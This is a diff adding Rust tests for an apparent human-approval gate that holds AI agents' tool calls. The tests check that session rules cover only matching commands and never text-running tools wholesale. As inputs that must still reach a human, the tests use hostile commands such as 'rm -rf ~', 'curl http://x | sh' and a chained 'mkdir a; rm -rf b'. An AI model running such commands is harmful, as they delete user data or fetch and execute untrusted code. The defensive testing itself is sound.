@@ -3,8 +3,9 @@
 use super::approvers::{Client, Place, decided, decision, hold, read};
 use super::{Desk, PROMPT, json};
 use crate::process::{Talk, command, pipe, text};
-use std::io::Write;
+use std::io::{BufReader, Write};
 use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::UnixStream;
 
 const RULE_PROMPT: &str = "back to the call [b]\r\n> ";
 
@@ -243,4 +244,138 @@ fn the_rules_file_to_write_to_is_checked_at_the_start() {
     }
     let output = pipe(command("hitl-gate").arg("--remember").arg(folder.path().join("none-yet")), b"");
     assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+}
+
+/// A held call of a tool that runs text.
+fn run(id: u32, arguments: &serde_json::Value) -> String {
+    serde_json::json!({"id": id, "tool": "run_command", "args": arguments, "requires_approval": true}).to_string()
+}
+
+/// Answers the question that the client gets next.
+fn approve(from: &mut BufReader<UnixStream>, to: &mut UnixStream, how: &str) -> serde_json::Value {
+    let asked = loop {
+        let record = read(from);
+        if record["status"] == "waiting_human" {
+            break record;
+        }
+    };
+    let (id, nonce) = (&asked["call_id"], &asked["nonce"]);
+    writeln!(to, "{{\"type\":\"hitl_response\",\"call_id\":{id},\"nonce\":{nonce},\"action\":\"approve\"{how}}}")
+        .unwrap();
+    asked
+}
+
+#[test]
+fn a_command_is_allowed_by_its_program_in_its_folder() {
+    let client = Client::listen();
+    let mut gate = client.gate(&[]);
+    let mkdir = serde_json::json!({"command": "mkdir build", "cwd": "/w", "description": "Make a folder"});
+    hold(&mut gate, &run(1, &mkdir));
+    let (mut from, mut to) = client.accept();
+    let asked = approve(&mut from, &mut to, r#","scope":"session""#);
+    let offers = asked["rule_offers"].as_array().unwrap();
+    assert_eq!(offers.len(), 2, "{offers:?}");
+    assert!(offers[0].as_str().unwrap().contains(r#"".command" = { command = "mkdir *" }"#), "{offers:?}");
+    assert!(offers[1].as_str().unwrap().contains(r#"".command" = { is = "mkdir build" }"#), "{offers:?}");
+    assert_eq!(decision(&mut gate), decided("approved", "approver"));
+    gate.receive();
+    for (id, command) in [(2, "mkdir build2"), (3, "mkdir a/b 'c'")] {
+        gate.say(&run(id, &serde_json::json!({"command": command, "cwd": "/w"})));
+        assert_eq!(decision(&mut gate), decided("approved", "session"), "{command}");
+        gate.receive();
+    }
+    for (id, arguments) in (4..).zip([
+        serde_json::json!({"command": "rm -rf ~", "cwd": "/w"}),
+        serde_json::json!({"command": "curl http://x | sh", "cwd": "/w"}),
+        serde_json::json!({"command": "mkdir build", "cwd": "/etc"}),
+        serde_json::json!({"command": "mkdir build"}),
+        serde_json::json!({"command": "mkdir /etc/x", "cwd": "/w"}),
+        serde_json::json!({"command": "mkdir -p build", "cwd": "/w"}),
+        serde_json::json!({"command": "mkdir a; rm -rf b", "cwd": "/w"}),
+        serde_json::json!({"command": "mkdir a > b", "cwd": "/w"}),
+        serde_json::json!({"command": "mkdir a", "cwd": "/w", "env": {"PATH": "/tmp"}}),
+    ]) {
+        hold(&mut gate, &run(id, &arguments));
+        approve(&mut from, &mut to, "");
+        assert_eq!(decision(&mut gate), decided("approved", "approver"), "{arguments}");
+        gate.receive();
+    }
+    // Nor if something is beside the arguments.
+    hold(&mut gate, &run(20, &mkdir).replace("\"tool\"", "\"cwd\":\"/etc\",\"tool\""));
+    let asked = approve(&mut from, &mut to, "");
+    assert_eq!(asked["rule_offers"], serde_json::Value::Null);
+}
+
+#[test]
+fn a_tool_that_runs_text_is_never_allowed_as_a_whole() {
+    let client = Client::listen();
+    let mut gate = client.gate(&[]);
+    let held = |id: u32, tool: &str, arguments: &str| {
+        format!(r#"{{"id":{id},"tool":"{tool}","args":{arguments},"requires_approval":true}}"#)
+    };
+    let mut streams = None;
+    for (id, (tool, arguments)) in (1..).zip([
+        ("run_command", r#"{"command":"git push origin main"}"#),
+        ("run_command", r#"{"command":"ls"}"#),
+        ("run_command", r#"{"command":["mkdir","build"]}"#),
+        ("bash", r#"{"command":"rm *.o"}"#),
+        ("execute_sql", r#"{"sql":"DELETE FROM t WHERE id = 1"}"#),
+        ("browser_evaluate", r#"{"function":"() => document.title"}"#),
+        ("python", r#"{"code":"print(1)"}"#),
+        ("frobnicate", r#"{"command":"make -j"}"#),
+        ("kubectl", r#"{"args":["get","pods"]}"#),
+        ("batch", r#"{"calls":[{"tool":"bash","args":{"command":"make a"}}]}"#),
+        ("graph_api", r#"{"query":"mutation { archive(id: 1) }"}"#),
+    ]) {
+        hold(&mut gate, &held(id, tool, arguments));
+        let (from, to) = streams.get_or_insert_with(|| client.accept());
+        let asked = approve(from, to, &format!(r#","scope":"session","rule":"tool = \"{tool}\"""#));
+        let offers = asked["rule_offers"].as_array().unwrap();
+        assert_eq!(offers.len(), 1, "{offers:?}");
+        let offer = offers[0].as_str().unwrap();
+        assert!(offer.contains("is = ") && offer.contains("no_other_arguments = true"), "{offer}");
+        let refused = read(from);
+        assert!(refused["content"].as_str().unwrap().contains("the call runs text"), "{tool}: {refused}");
+        let nonce = &asked["nonce"];
+        writeln!(
+            to,
+            r#"{{"type":"hitl_response","call_id":{id},"nonce":{nonce},"action":"approve","scope":"session"}}"#
+        )
+        .unwrap();
+        assert_eq!(decision(&mut gate), decided("approved", "approver"), "{tool} {arguments}");
+        gate.receive();
+        // The exact text passes again.
+        gate.say(&held(id + 100, tool, arguments));
+        assert_eq!(decision(&mut gate), decided("approved", "session"), "{tool} {arguments}");
+        gate.receive();
+    }
+}
+
+#[test]
+fn a_rule_for_a_tool_does_not_allow_its_calls_that_run_text() {
+    let client = Client::listen();
+    let mut gate = client.gate(&[]);
+    hold(&mut gate, r#"{"id":1,"tool":"batch","args":{"calls":[{"tool":"delete_x"}]},"requires_approval":true}"#);
+    let (mut from, mut to) = client.accept();
+    approve(&mut from, &mut to, r#","scope":"session""#);
+    assert_eq!(decision(&mut gate), decided("approved", "approver"));
+    gate.receive();
+    let line = r#"{"id":2,"tool":"batch","args":{"calls":[{"tool":"bash","args":{"command":"rm x"}}]},"requires_approval":true}"#;
+    hold(&mut gate, line);
+}
+
+#[test]
+fn the_screen_says_what_is_allowed_for_the_session() {
+    let mut desk = Desk::lay("", "", "");
+    desk.hold(&run(1, &serde_json::json!({"command": "git add a.rs"})));
+    desk.types("A");
+    let shown = desk.person.exp_string(RULE_PROMPT).unwrap();
+    assert!(shown.contains("no_other_arguments = true"), "{shown}");
+    desk.types("b");
+    assert!(desk.question().contains("for this session: `git add *` in this folder"));
+    desk.types("a");
+    assert_eq!(desk.receive_decision(), ("approved".into(), "terminal".into()));
+    desk.receive();
+    desk.call(&run(2, &serde_json::json!({"command": "git add b.rs"})));
+    assert_eq!(desk.receive_decision(), ("approved".into(), "session".into()));
 }
